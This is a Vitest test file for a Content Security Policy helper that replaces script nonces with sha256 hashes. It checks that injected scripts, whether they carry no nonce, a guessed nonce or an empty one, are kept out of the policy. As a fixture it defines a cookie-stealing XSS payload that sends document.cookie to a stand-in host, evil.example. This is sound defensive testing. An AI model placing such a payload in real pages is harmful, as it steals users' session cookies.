import { hash } from "node:crypto";
import { expect, test } from "vitest";
import { contentSecurityPolicy, hashInlineScripts } from "./content-security-policy.ts";

const NONCE = "dGhlIG5vbmNl";
const ours = "window.context = {}";
const injected = "fetch('https://evil.example/' + document.cookie)";
const sha = (code: string) => `'sha256-${hash("sha256", code, "base64")}'`;

function policyOf(html: string): string {
  return contentSecurityPolicy({ hashes: hashInlineScripts(html, NONCE).hashes });
}

test("a rendered script is allowed by its hash, and the page has no nonce any more", () => {
  const page = `<script nonce="${NONCE}">${ours}</script><script nonce="${NONCE}" async="" src="/a.js"></script>`;
  expect(hashInlineScripts(page, NONCE).html).toBe(
    `<script>${ours}</script><script async="" src="/a.js"></script>`,
  );
  expect(policyOf(page)).toContain(`script-src 'self' ${sha(ours)};`);
});

test.each([
  ["without a nonce", `<script>${injected}</script>`],
  ["with a guessed nonce", `<script nonce="guessed">${injected}</script>`],
  ["with the nonce of nothing", `<script nonce="">${injected}</script>`],
])("a script that was injected %s is not allowed", (_, script) => {
  const policy = policyOf(`<script nonce="${NONCE}">${ours}</script><p>${script}</p>`);
  expect(policy).toContain(sha(ours));
  expect(policy).not.toContain(sha(injected));
});
